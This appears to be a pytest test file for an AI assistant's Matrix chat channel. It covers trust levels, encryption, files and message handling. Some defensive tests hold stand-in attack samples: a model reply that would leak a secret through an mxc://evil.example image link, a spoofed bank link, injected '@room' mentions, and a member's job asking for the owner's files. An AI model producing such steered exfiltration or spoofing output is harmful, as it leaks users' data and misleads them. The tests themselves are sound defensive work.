"""Matrix through a running gateway against a real Synapse homeserver (tests/fakes/synapse.py):
the people are matrix-nio clients of their own, registered anew for each test."""

from __future__ import annotations

import asyncio
import io
import json
import shutil
import time
from pathlib import Path
from typing import Any, AsyncIterator, Callable, Iterator

import aiohttp
import pytest
from nio import AsyncClient, AsyncClientConfig, RoomCreateResponse, RoomSendResponse, RoomVisibility, UploadResponse
from nio.crypto.attachments import decrypt_attachment

from nanobot.bus import OutboundMessage, OutgoingFile
from nanobot.channel_plugin import ChannelContext, SendFailed
from nanobot.config import Config, MatrixConfig
from nanobot_channels.matrix import MatrixChannel
from tests.fakes.http_proxy import HttpProxy
from tests.fakes.openai_server import FakeOpenAI, delayed, reply, tool_call
from tests.fakes.synapse import Homeserver, SynapseUnavailable, homeserver
from tests.helpers import config_for, fast_pace, recorded_intake, running_gateway, until
from tests.test_api import free_port
from tests.test_discord import AllowList
from tests.test_signal import asked_last
from tests.test_channels_crash import killed_mid_turn_then_answered_once, write_config
from tests.test_cli import onboard_channel

# One homeserver for the module, on one test process; its first test may install it (about a minute).
pytestmark = [pytest.mark.xdist_group("synapse"), pytest.mark.timeout(300)]


@pytest.fixture(scope="module")
def synapse(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Homeserver]:
    try:
        with homeserver(tmp_path_factory.mktemp("synapse")) as server:
            yield server
    except SynapseUnavailable as exc:
        pytest.skip(f"no Matrix homeserver: {exc}")


def test_the_matrix_tests_share_one_process(request: pytest.FixtureRequest) -> None:
    """Under ``--dist loadgroup`` the tests here run on one process, with one homeserver. A pytest
    that undoes the grouping (9.2 with xdist 3.8: pytest-xdist#1386) started one on each."""
    if request.config.getoption("loadgroup", default=False):
        assert request.node.nodeid.endswith("@synapse")


class Person:
    """Someone on the homeserver, with their own client: creates rooms, writes, reads replies."""

    def __init__(self, hs: Homeserver, user_id: str, token: str) -> None:
        self.user_id, self.hs, self.token = user_id, hs, token
        self.client = AsyncClient(hs.url, user_id, config=AsyncClientConfig(encryption_enabled=False))
        self.client.restore_login(user_id, "PERSON", token)
        self.seen: list[dict[str, Any]] = []  # every event of others, in order, as synced
        self._since: str | None = None

    async def encrypting(self, keys: Path) -> None:
        """From now on this person's client encrypts and decrypts, as Element does: the token's
        device, its keys kept in ``keys`` and uploaded."""
        await self.client.close()
        keys.mkdir()
        self.client = AsyncClient(self.hs.url, self.user_id, store_path=str(keys),
                                  config=AsyncClientConfig(encryption_enabled=True, store_sync_tokens=False))
        self.client.access_token = self.token
        await self.client.whoami()  # which device the token is
        self.client.restore_login(self.user_id, self.client.device_id, self.token)
        await self.client.keys_upload()

    async def raw(self, method: str, path: str, body: dict[str, Any] | None = None) -> Any:
        """A request of the client-server API as it is on the wire (no decryption)."""
        async with aiohttp.ClientSession() as http, http.request(
                method, f"{self.hs.url}/_matrix/client/v3/{path}", json=body,
                headers={"Authorization": f"Bearer {self.token}"}) as answer:
            return await answer.json()

    async def room(self, *invite: str, direct: bool = True, encrypted: bool = False) -> str:
        state = [{"type": "m.room.encryption", "state_key": "", "content": {"algorithm": "m.megolm.v1.aes-sha2"}}] \
            if encrypted else []
        made = await self.client.room_create(visibility=RoomVisibility.private, is_direct=direct, invite=list(invite),
                                             initial_state=state)
        assert isinstance(made, RoomCreateResponse), made
        return made.room_id

    async def say(self, room: str, text: str, *, mention: str | None = None,
                  content: dict[str, Any] | None = None) -> str:
        """``text`` (or the whole ``content``) in ``room``, encrypted where the room is."""
        content = content or {"msgtype": "m.text", "body": f"{mention}: {text}" if mention else text}
        if mention:
            content["m.mentions"] = {"user_ids": [mention]}
        if self.client.olm and room not in self.client.rooms:
            await self._sync(0)  # an encrypting client writes only to rooms it knows (their members' devices)
        sent = await self.client.room_send(room, "m.room.message", content, ignore_unverified_devices=True)
        assert isinstance(sent, RoomSendResponse), sent
        return sent.event_id

    async def read_until(self, done: Callable[[list[dict[str, Any]]], bool], timeout: float = 60) -> None:
        """Sync until ``done(self.seen)`` (what others sent, edits included)."""
        async with asyncio.timeout(timeout):
            while not done(self.seen):
                await self._sync(5000)

    async def _sync(self, timeout_ms: int) -> None:
        answer = await self.client.sync(timeout=timeout_ms, since=self._since, full_state=self._since is None)
        self._since = answer.next_batch
        for room, joined in answer.rooms.join.items():  # an encrypted room's messages as decrypted
            self.seen += [{**e.source, "room_id": room} for e in joined.timeline.events
                          if e.source.get("type") == "m.room.message" and e.source.get("sender") != self.user_id]
        if self.client.olm:
            await self.client.send_to_device_messages()
            if self.client.should_query_keys:  # nio gives the rooms of one whose devices changed a new room key
                await self.client.keys_query()

    async def knows(self, user: str, device: str) -> None:
        """Sync until this (encrypting) client knows ``device`` of ``user``: a live client learns of
        a new device soon after its keys are up."""
        async with asyncio.timeout(60):
            while device not in [d.id for d in self.client.olm.device_store.active_user_devices(user)]:
                await self._sync(0)
                self.client.olm.users_for_key_query.add(user)
                await self.client.keys_query()
                await asyncio.sleep(0.1)

    def shown(self) -> list[str]:
        """The messages of others as a client shows them: edits applied."""
        edits = {e["content"]["m.relates_to"]["event_id"]: e["content"]["m.new_content"]["body"]
                 for e in self.seen if (e["content"].get("m.relates_to") or {}).get("rel_type") == "m.replace"}
        return [edits.get(e["event_id"], e["content"].get("body"))
                for e in self.seen if "m.new_content" not in e["content"]]


@pytest.fixture
async def people(synapse: Homeserver) -> AsyncIterator[dict[str, Any]]:
    """A bot account and three people: the owner, a friend and a stranger."""
    made = {name: await synapse.register(name) for name in ("bot", "owner", "friend", "stranger")}
    persons = {name: Person(synapse, *made[name]) for name in ("owner", "friend", "stranger")}
    yield {"bot": made["bot"], **persons}
    for person in persons.values():
        await person.client.close()


def matrix_config(llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> Config:
    cfg = config_for(llm.base_url, workspace, mode="tools")
    cfg.gateway.heartbeat.enabled = False
    bot_id, token = people["bot"]
    cfg.channels.matrix = MatrixConfig.model_validate({
        "enabled": True, "homeserver": synapse.url, "userId": bot_id, "accessToken": token,
        "allowFrom": [people["owner"].user_id, people["friend"].user_id], "owners": [people["owner"].user_id]})
    return cfg


def asked(llm: FakeOpenAI) -> list[str]:
    return [[m["content"] for m in r["messages"] if m["role"] == "user"][-1] for r in llm.chat_requests]


async def group_of(maker: Person, other: Person, bot: str, *, encrypted: bool = False) -> str:
    """A room ``maker`` made with ``other`` and the bot in it: a group chat."""
    room = await maker.room(bot, other.user_id, direct=False, encrypted=encrypted)
    await other.client.join(room)
    await bot_in(maker, room, bot)
    return room


async def bot_in(person: Person, room: str, bot: str) -> None:
    """Wait until the bot has joined ``room``."""
    async with asyncio.timeout(60):  # a bound: Synapse on a loaded machine is slow to join
        while bot not in [m.user_id for m in (await person.client.joined_members(room)).members]:
            await asyncio.sleep(0.1)  # a join is nothing the person's sync is told of at once


async def test_a_direct_chat_is_answered_and_is_the_owners(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
                                                           people: dict[str, Any]) -> None:
    owner, bot = people["owner"], people["bot"][0]
    llm.script(reply("**Hello** there"), reply("| Plan | Price | Seats |\n|---|---|---|\n| Basic | 5 € | 1 |"))
    async with running_gateway(matrix_config(llm, workspace, synapse, people)) as gateway:
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        await owner.say(room, "hi bot")
        await owner.read_until(lambda seen: owner.shown() == ["**Hello** there"])  # streamed, then the whole
        final = owner.seen[-1]["content"].get("m.new_content") or owner.seen[-1]["content"]
        assert final["formatted_body"] == "<p><strong>Hello</strong> there</p>"
        assert asked(llm) == ["hi bot"] and gateway.runtime.trust(f"matrix:{room}") == "owner"
        assert gateway.channels.state["matrix"] == "running"
        await owner.say(room, "the plans?")  # a table: Element X shows its cells run together, or none
        await owner.read_until(lambda seen: owner.shown()[1:] == ["**Basic**\n+ Price: 5 €\n+ Seats: 1"])
        final = owner.seen[-1]["content"].get("m.new_content") or owner.seen[-1]["content"]
        assert final["formatted_body"] == "<p><strong>Basic</strong></p>\n<ul>\n<li>Price: 5 €</li>\n<li>Seats: 1</li>\n</ul>"


async def test_a_notice_from_another_bot_is_not_answered(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
                                                         people: dict[str, Any]) -> None:
    """Bots write ``m.notice`` and never answer one, as the spec asks: two that did would answer
    each other for good."""
    owner, bot = people["owner"], people["bot"][0]
    llm.fallback = lambda body: reply("answered")
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        await owner.client.room_send(room, "m.room.message", {"msgtype": "m.notice", "body": "build 42 passed"})
        await owner.say(room, "hi")
        await owner.read_until(lambda seen: owner.shown() == ["answered"])
    assert asked(llm) == ["hi"]


async def test_an_image_in_a_reply_is_only_a_link(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
                                                  people: dict[str, Any]) -> None:
    """A client shows an ``<img>`` of ``mxc://other.server/id`` at once, and the homeserver fetches
    it from that server: a steered reply would carry data off in the id with nobody clicking."""
    owner, bot = people["owner"], people["bot"][0]
    llm.script(reply("Here: ![chart](mxc://evil.example/CANARY-secret)"))
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        await owner.say(room, "show me")
        await owner.read_until(lambda seen: owner.shown() == ["Here: ![chart](mxc://evil.example/CANARY-secret)"])
    shown = [e["content"].get("m.new_content") or e["content"] for e in owner.seen]
    assert all("<img" not in c["formatted_body"] for c in shown)
    assert 'href="mxc://evil.example/CANARY-secret"' in shown[-1]["formatted_body"]


async def test_a_reply_pings_nobody_by_name_nor_the_whole_room(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    """A reply is the model's, which a web page may have steered: the homeserver must not read
    it for mentions (``@room``, a display name). Every message says it mentions nobody
    (``m.mentions``), so no one's push rules highlight it, though the bot may notify the room."""
    owner, friend, bot = people["owner"], people["friend"], people["bot"][0]
    names = [person.user_id[1:].split(":")[0] for person in (owner, friend)]  # display names, as registered
    llm.fallback = lambda body: reply(f"@room wake up, {names[0]} and {names[1]}!")
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        room = await group_of(owner, friend, bot)
        levels = (await owner.client.room_get_state_event(room, "m.room.power_levels")).content
        levels["users"][bot] = 50  # may notify the whole room (notifications.room)
        await owner.client.room_put_state(room, "m.room.power_levels", levels)
        await friend.say(room, "ping everyone", mention=bot)
        await owner.read_until(lambda seen: any(e["sender"] == bot for e in seen))
    for person in (owner, friend):
        async with aiohttp.ClientSession() as http, http.get(
                f"{synapse.url}/_matrix/client/v3/notifications",
                headers={"Authorization": f"Bearer {person.client.access_token}"}) as answer:
            notified = [n for n in (await answer.json())["notifications"] if n["event"]["sender"] == bot]
        assert notified and not [n for n in notified if {"set_tweak": "highlight"} in n["actions"]
                                 or {"set_tweak": "highlight", "value": True} in n["actions"]]


async def test_a_strangers_invitation_is_declined(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
                                                  people: dict[str, Any]) -> None:
    stranger, owner, bot = people["stranger"], people["owner"], people["bot"][0]
    llm.fallback = lambda body: reply("for the owner")
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        theirs = await stranger.room(bot)
        ours = await owner.room(bot)  # after the stranger's: once the bot is in it, the other was seen
        await bot_in(owner, ours, bot)
        members = [m.user_id for m in (await stranger.client.joined_members(theirs)).members]
        assert bot not in members
    assert not llm.chat_requests


@pytest.mark.parametrize("encrypted", [False, True])
async def test_in_a_group_only_a_mention_is_answered_as_a_member_chat(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any], tmp_path: Path,
        encrypted: bool) -> None:
    owner, friend, bot = people["owner"], people["friend"], people["bot"][0]
    if encrypted:  # each person's room key reaches the bot, and the bot's reaches each of them
        await owner.encrypting(tmp_path / "owner")
        await friend.encrypting(tmp_path / "friend")
    llm.fallback = lambda body: reply("in the group")
    async with running_gateway(matrix_config(llm, workspace, synapse, people)) as gateway:
        room = await group_of(owner, friend, bot, encrypted=encrypted)
        await friend.say(room, "just chatting")
        question = await friend.say(room, "what is up?", mention=bot)
        await owner.read_until(lambda seen: any(e["sender"] == bot for e in seen))
        answer = next(e["content"] for e in owner.seen if e["sender"] == bot)
        assert answer["m.relates_to"] == {"m.in_reply_to": {"event_id": question}}  # a reply to the question
        assert asked(llm) == [f"[said here since the last message to me:\n{friend.user_id}: just chatting]\n"
                              "what is up?"]  # what the room said before comes with the mention
        assert gateway.runtime.trust(f"matrix:{room}") == "member"  # three people: no owner chat
        for person in (owner, friend):
            await person.read_until(lambda seen: person.shown()[-1:] == ["in the group"])


async def test_a_poll_is_words_in_the_talk_and_in_a_reply(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    """"@bot which one?" after a poll, or in reply to one: the model reads it, as Element sends
    polls (unstable names) and as the spec names them."""
    owner, friend, bot = people["owner"], people["friend"], people["bot"][0]
    llm.fallback = lambda body: reply("pizza")
    element = {"org.matrix.msc3381.poll.start": {
        "question": {"org.matrix.msc1767.text": "Where do we eat?"}, "kind": "org.matrix.msc3381.poll.disclosed",
        "max_selections": 1, "answers": [{"id": t, "org.matrix.msc1767.text": t} for t in ("Pizza", "Soup")]}}
    spec = {"m.poll.start": {"question": {"m.text": [{"body": "And when?"}]}, "max_selections": 1,
                             "answers": [{"m.id": t, "m.text": [{"body": t}]} for t in ("Noon", "Eight")]}}
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        room = await group_of(owner, friend, bot)
        await friend.client.room_send(room, "org.matrix.msc3381.poll.start", element)
        await owner.say(room, "which one?", mention=bot)
        await owner.read_until(lambda seen: owner.shown() == ["pizza"])
        when = (await friend.client.room_send(room, "m.poll.start", spec)).event_id
        await owner.client.room_send(room, "m.room.message", {
            "msgtype": "m.text", "body": "and this?", "m.relates_to": {"m.in_reply_to": {"event_id": when}},
            "m.mentions": {"user_ids": [bot]}})
        await owner.read_until(lambda seen: owner.shown() == ["pizza", "pizza"])
    assert asked(llm) == [f"[said here since the last message to me:\n{friend.user_id}: [poll: Where do we eat? "
                          "(Pizza / Soup)]]\nwhich one?",
                          '[in reply to another person\'s message: "[poll: And when? (Noon / Eight)]"]\nand this?']


async def test_a_room_that_changes_hands_starts_over_with_the_new_partys_trust(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    """A room of two is its person's private chat: the owner's, with owner trust. When a member
    joins it, it is a group: member trust, and nothing the owner said there reaches the member's
    turn, nor does the owner's job run on for the group. When the member leaves again, their job
    does not get the owner's rights."""
    owner, friend, bot = people["owner"], people["friend"], people["bot"][0]
    digging = asyncio.Event()

    def model(body: dict[str, Any]) -> dict[str, Any]:
        if "dig" in asked_last(body):  # the friend's background task: runs until stopped
            digging.set()
            return delayed(reply("found"), 60)
        return reply("re: " + asked_last(body))

    llm.fallback = model
    async with running_gateway(matrix_config(llm, workspace, synapse, people)) as gateway:
        room, cron, tasks = await owner.room(bot), gateway.runtime.cron, gateway.runtime.tasks
        chat = f"matrix:{room}"
        await bot_in(owner, room, bot)
        await owner.say(room, "my locker code is CANARY-4711")
        await owner.read_until(lambda seen: owner.shown() == ["re: my locker code is CANARY-4711"])
        assert gateway.runtime.trust(chat) == "owner"
        job = {"schedule_kind": "every", "expression": "3600", "timezone": "UTC", "payload_kind": "prompt"}
        owners_job = await cron.add(name="owner's", owner_session=chat, payload="read my mail", **job)
        await owner.client.room_invite(room, friend.user_id)
        await friend.client.join(room)
        await friend.say(room, "what is the locker code?", mention=bot)
        await owner.read_until(lambda seen: "re: what is the locker code?" in owner.shown())
        assert "CANARY" not in str(llm.chat_requests[-1]["messages"]) and gateway.runtime.trust(chat) == "member"
        friends_job = await cron.add(name="friend's", owner_session=chat, payload="send me the owner's files", **job)
        friends_task = await tasks.add(chat, "dig through the owner's files", "friend's")
        await asyncio.wait_for(digging.wait(), 10)
        await friend.client.room_leave(room)
        await owner.say(room, "alone again")
        await owner.read_until(lambda seen: "re: alone again" in owner.shown())
        assert "locker code" not in str(llm.chat_requests[-1]["messages"]) and gateway.runtime.trust(chat) == "owner"
        assert [(await cron.get(j.id)).enabled for j in (owners_job, friends_job)] == [False, False]
        async def stopped() -> bool:
            return (await tasks.get(friends_task.id)).state == "stopped"
        await until(stopped, timeout=10)


async def test_notices_reach_the_owner_in_the_room_they_last_wrote_from(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    """Nothing in the config names a Matrix owner's private room: notices (a member's new job)
    go to the room where an owner last wrote in private, and no longer once it changed hands."""
    owner, friend, bot = people["owner"], people["friend"], people["bot"][0]
    llm.fallback = lambda body: reply("re: " + asked_last(body))
    async with running_gateway(matrix_config(llm, workspace, synapse, people)) as gateway:
        assert await gateway.runtime.owner_chat() is None  # not yet heard from
        ours = await owner.room(bot)
        await bot_in(owner, ours, bot)
        await owner.say(ours, "hi")
        await owner.read_until(lambda seen: owner.shown() == ["re: hi"])
        group = await group_of(friend, owner, bot)
        llm.script(tool_call("schedule_cron", {"expression": "every 1h", "message": "stretch"}), reply("scheduled"))
        await friend.say(group, "remind me to stretch every hour", mention=bot)

        def notices(seen: list[dict[str, Any]]) -> list[str]:
            return [e["content"]["body"] for e in seen if e["room_id"] == ours and "🔔" in e["content"]["body"]]

        await owner.read_until(notices)
        assert notices(owner.seen)[0].startswith("🔔 New scheduled job") and f"made by matrix:{group}" in \
            notices(owner.seen)[0]
        await owner.client.room_invite(ours, friend.user_id)
        await friend.client.join(ours)
        await friend.say(ours, "and now?", mention=bot)
        await friend.read_until(lambda seen: "re: and now?" in friend.shown())
        assert await gateway.runtime.owner_chat() is None  # a room with a member in it is not the owner's


async def test_history_from_before_the_bot_joined_is_not_answered(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    owner, bot = people["owner"], people["bot"][0]
    llm.fallback = lambda body: reply("re: " + asked_last(body))
    no_grace = fast_pace(adapters={"matrix": {"join_grace_ms": 0}})  # (an hour-old message, without the hour)
    async with running_gateway(matrix_config(llm, workspace, synapse, people), pace=no_grace):
        room = await owner.room(direct=False)
        await owner.say(room, "old news", mention=bot)  # before the bot was there
        await owner.client.room_invite(room, bot)
        await bot_in(owner, room, bot)
        await owner.say(room, "new question", mention=bot)
        await owner.read_until(lambda seen: owner.shown()[-1:] == ["re: new question"])
    assert asked(llm) == ["new question"]


async def test_sent_while_down_answered_once_after_the_start_and_never_again(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    owner, bot = people["owner"], people["bot"][0]
    llm.fallback = lambda body: reply("re: " + asked_last(body))
    cfg = matrix_config(llm, workspace, synapse, people)
    async with running_gateway(cfg) as gateway:
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        await owner.say(room, "one")
        await owner.read_until(lambda seen: owner.shown() == ["re: one"])
        # kept once "one" was recorded: the next start reads on from there, not from "now"
        assert await gateway.delivery.position(f"matrix {bot}") is not None
    await owner.say(room, "while you were away")
    async with running_gateway(cfg):
        await owner.read_until(lambda seen: len(owner.shown()) == 2)
    async with running_gateway(cfg):  # a third start: nothing is answered again
        await owner.say(room, "three")
        await owner.read_until(lambda seen: owner.shown()[-1:] == ["re: three"])
    assert owner.shown() == ["re: one", "re: while you were away", "re: three"]
    assert asked(llm) == ["one", "while you were away", "three"]


async def test_more_sent_while_down_than_a_sync_carries_is_all_answered_once(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    """A sync brings a room's last events only (50; 2 here): what came before them while the
    gateway was down is fetched, so no message of a long absence goes unanswered."""
    owner, bot = people["owner"], people["bot"][0]
    llm.fallback = lambda body: reply("re: " + asked_last(body))
    cfg, short = matrix_config(llm, workspace, synapse, people), fast_pace(adapters={"matrix": {"timeline_limit": 2}})
    async with running_gateway(cfg, pace=short):
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        await owner.say(room, "one")
        await owner.read_until(lambda seen: owner.shown() == ["re: one"])
    away = [f"away {n}" for n in range(7)]
    for text in away:
        await owner.say(room, text)
    async with running_gateway(cfg, pace=short):
        await owner.read_until(lambda seen: "away 6" in " ".join(owner.shown()[-1:]))
    said = " | ".join(asked(llm))
    assert all(said.count(text) == 1 for text in away), said
    assert [said.index(text) for text in away] == sorted(said.index(text) for text in away)


async def test_a_reply_streams_by_editing_one_message(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
                                                      people: dict[str, Any]) -> None:
    owner, bot = people["owner"], people["bot"][0]
    llm.stream_interval, llm.stream_piece_chars = 0.4, 12  # 6 pieces over 2.4 s: edits a second apart
    llm.script(reply("First part. " * 3 + "Second part. " * 3))
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        await owner.say(room, "tell me")
        await owner.read_until(lambda seen: "Second part. Second part. Second part." in (owner.shown() or [""])[-1])
    assert len(owner.shown()) == 1  # one message, replaced as it grew
    edits = [e["content"] for e in owner.seen if "m.new_content" in e["content"]]
    assert edits and all(e["formatted_body"].startswith("* <p>") for e in edits)  # a client without edits: no list


async def test_a_reply_carries_the_message_it_answers(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
                                                      people: dict[str, Any]) -> None:
    """The message a reply answers is fetched (as its last edit shows it); an older client's
    quote in the body ("> <@bot> ...") is not read twice."""
    owner, bot = people["owner"], people["bot"][0]
    llm.stream_interval, llm.stream_piece_chars = 0.2, 12  # the answer streams: its first event holds a part
    llm.script(reply("It is noon in Paris, and sunny."), reply("ok"))
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        await owner.say(room, "what time is it?")
        await owner.read_until(lambda seen: owner.shown() == ["It is noon in Paris, and sunny."])
        answered = next(e["event_id"] for e in owner.seen if "m.new_content" not in e["content"])
        await owner.client.room_send(room, "m.room.message", {
            "msgtype": "m.text", "body": f"> <{bot}> It is noon\n\nand in Tokyo?",
            "m.relates_to": {"m.in_reply_to": {"event_id": answered}}, "m.mentions": {"user_ids": [bot]}})
        await owner.read_until(lambda seen: owner.shown()[-1:] == ["ok"])
    assert asked(llm)[-1] == '[in reply to your message: "It is noon in Paris, and sunny."]\nand in Tokyo?'


def test_a_links_words_naming_another_address_show_its_target() -> None:
    """A reply a web page steered could show "https://bank.example" over a link elsewhere."""
    from nanobot_channels.markdown_html import to_html

    assert to_html("**[https://bank.example](https://evil.example/a_b)** [docs](https://docs.example)") == (
        '<p><strong><a href="https://evil.example/a_b">https://bank.example (https://evil.example/a_b)</a></strong> '
        '<a href="https://docs.example">docs</a></p>')


def test_a_line_break_is_one() -> None:
    """As in the plain body and on other platforms: /help's lines ran together in Element."""
    from nanobot_channels.markdown_html import to_html

    assert to_html("Commands:\n/new — start afresh") == "<p>Commands:<br />\n/new — start afresh</p>"


@pytest.mark.parametrize("encrypted", [False, True])
async def test_files_both_ways(llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any],
                               tmp_path: Path, encrypted: bool) -> None:
    """In an encrypted room a file is an encrypted attachment both ways: the media repository
    holds ciphertext, its key travels in the encrypted event."""
    owner, bot = people["owner"], people["bot"][0]
    if encrypted:
        await owner.encrypting(tmp_path / "owner-keys")
    (workspace / "report.csv").write_text("month,sales\njan,3\n")
    llm.script(lambda body: reply("read: " + ("yes" if "CANARY-matrix-file" in str(body["messages"]) else "no")),
               tool_call("send_file", {"path": "report.csv", "caption": "the report"}), reply("sent"))
    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
        room = await owner.room(bot, encrypted=encrypted)
        await bot_in(owner, room, bot)
        data = b"CANARY-matrix-file"
        uploaded, keys = await owner.client.upload(io.BytesIO(data), content_type="text/plain", filename="notes.txt",
                                                   filesize=len(data), encrypt=encrypted)
        assert isinstance(uploaded, UploadResponse)
        where = {"file": {**keys, "url": uploaded.content_uri}} if encrypted else {"url": uploaded.content_uri}
        await owner.say(room, "", content={"msgtype": "m.file", "body": "notes.txt",
                                           "info": {"mimetype": "text/plain", "size": len(data)}, **where})
        await owner.read_until(lambda seen: owner.shown() == ["read: yes"])
        assert list((workspace / "inbox").glob("matrix_*_notes.txt"))
        await owner.say(room, "send the report")
        await owner.read_until(lambda seen: any(e["content"].get("msgtype") == "m.file" for e in seen))
        file = next(e["content"] for e in owner.seen if e["content"].get("msgtype") == "m.file")
        assert file["body"] == "report.csv" and ("file" in file) == encrypted and ("url" in file) != encrypted
        got = (await owner.client.download(mxc=(file.get("file") or file)["url"])).body
        if encrypted:
            assert b"month" not in got  # ciphertext
            got = decrypt_attachment(got, file["file"]["key"]["k"], file["file"]["hashes"]["sha256"], file["file"]["iv"])
        assert got == b"month,sales\njan,3\n"


async def test_a_recording_named_without_an_extension_is_heard(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
                                                               people: dict[str, Any]) -> None:
    """An m.audio that is no voice message, named "Recording" (its kind only in its mimetype), was
    taken for a file of no known kind: never transcribed."""
    owner, bot = people["owner"], people["bot"][0]
    config = matrix_config(llm, workspace, synapse, people)
    config.tools.transcription.provider = "openai"
    llm.transcripts.append("call the plumber")
    llm.fallback = lambda body: reply("heard: " + ("yes" if "[voice] call the plumber" in str(body["messages"]) else "no"))
    async with running_gateway(config):
        room = await owner.room(bot)
        await bot_in(owner, room, bot)
        uploaded, _ = await owner.client.upload(io.BytesIO(b"OggS-recording"), content_type="audio/ogg",
                                                filename="Recording", filesize=14)
        await owner.say(room, "", content={"msgtype": "m.audio", "body": "Recording", "url": uploaded.content_uri,
                                           "info": {"mimetype": "audio/ogg", "size": 14}})
        await owner.read_until(lambda seen: owner.shown() == ["heard: yes"])
    assert [t["data"] for t in llm.transcriptions] == [b"OggS-recording"]


async def test_with_encryption_off_an_encrypted_room_gets_one_plain_reply(
        llm: FakeOpenAI, workspace: Path, synapse: Homeserver, people: dict[str, Any]) -> None:
    owner, bot = people["owner"], people["bot"][0]
    cfg = matrix_config(llm, workspace, synapse, people)
    cfg.channels.matrix.encryption = False
    async with running_gateway(cfg) as gateway:
        room = await owner.room(bot, encrypted=True)
        await bot_in(owner, room, bot)
        for _ in range(2):  # what a client with encryption sends: ciphertext the bot cannot read
            await owner.client.room_send(room, "m.room.encrypted", {
                "algorithm": "m.megolm.v1.aes-sha2", "ciphertext": "AwgAEnACg...", "sender_key": "k",
                "device_id": "PERSON", "session_id": "s"}, ignore_unverified_devices=True)
        await owner.read_until(lambda seen: bool(seen))
        await owner.say(room, "in clear")  # answered, its reply could not go there: no model call spent on it
        plain = await owner.room(bot)
        await bot_in(owner, plain, bot)
        llm.fallback = reply("pong")
        await owner.say(plain, "ping")  # read after the one before it: once answered, that one was read too
        await owner.read_until(lambda seen: "pong" in owner.shown())
        with pytest.raises(SendFailed) as refused:  # a job's output, say: never in clear to an encrypted room
            await gateway.channels.channels["matrix"].send(OutboundMessage("matrix", room, "CANARY-job-output"))
        assert not refused.value.retry and "nothing is sent there in clear" in str(refused.value)
    told = [e["content"]["body"] for e in owner.seen if e["room_id"] == room]
    assert len(told) == 1 and "end-to-end encrypted" in told[0] and asked(llm) == ["ping"]


async def test_an_encrypted_chat_is_read_and_answered_encrypted_by_one_device_across_restarts(
        llm: FakeOpenAI, home: Path, workspace: Path, synapse: Homeserver, people: dict[str, Any], tmp_path: Path) -> None:
    """Element encrypts a new chat by default: the bot reads it, and answers encrypted (the
    homeserver holds ciphertext only), as one device whose keys outlive a restart; a message
    whose key never reached it is said to be unreadable, once."""
    owner, (bot, bot_token) = people["owner"], people["bot"]
    await owner.encrypting(tmp_path / "owner-keys")
    llm.script(reply("the **secret** plan"), reply("still here"))
    cfg = matrix_config(llm, workspace, synapse, people)
    async with running_gateway(cfg):
        room = await owner.room(bot, encrypted=True)
        await bot_in(owner, room, bot)
        await owner.say(room, "hi in secret")
        await owner.read_until(lambda seen: owner.shown() == ["the **secret** plan"])
        final = owner.seen[-1]["content"].get("m.new_content") or owner.seen[-1]["content"]
        assert final["formatted_body"] == "<p>the <strong>secret</strong> plan</p>"
    assert oct((home / "keys" / "matrix").stat().st_mode & 0o777) == "0o700"  # the gateway's home, this user's only
    master = await cross_signed(owner, bot)
    async with running_gateway(cfg) as gateway:  # the same device, its keys kept: the room is still read
        await owner.raw("PUT", f"rooms/{room}/send/m.room.encrypted/bogus1", {  # for a session the bot never got
            "algorithm": "m.megolm.v1.aes-sha2", "ciphertext": "AwgAEnACg", "sender_key": "k", "device_id": "X",
            "session_id": "s"})
        await owner.read_until(lambda seen: len(owner.shown()) == 2)
        assert "could not decrypt your last message" in owner.shown()[1]
        await owner.say(room, "and now?")
        await owner.read_until(lambda seen: owner.shown()[2:] == ["still here"])
        with pytest.raises(SendFailed) as refused:  # a room it never was in: refused, not retried for ever
            await gateway.channels.channels["matrix"].send(OutboundMessage("matrix", "!nothere:test.local", "hi"))
        assert not refused.value.retry and "not in" in str(refused.value)
    assert asked(llm) == ["hi in secret", "and now?"]
    on_the_wire = (await owner.raw("GET", f"rooms/{room}/messages?dir=b&limit=100"))["chunk"]
    said = [e for e in on_the_wire if e["type"] in ("m.room.message", "m.room.encrypted")]
    assert len(said) >= 4 and {e["type"] for e in said} == {"m.room.encrypted"}
    assert not {"secret", "still here", "decrypt"} & set(str(on_the_wire).split())
    bot_as_owner = Person(synapse, bot, bot_token)
    devices = (await bot_as_owner.raw("GET", "devices"))["devices"]
    await bot_as_owner.client.close()
    assert len(devices) == 1  # one device, not one a start
    assert await cross_signed(owner, bot) == master  # the account's keys made once, kept


async def test_cross_signing_keys_another_client_made_are_left_as_they_are(
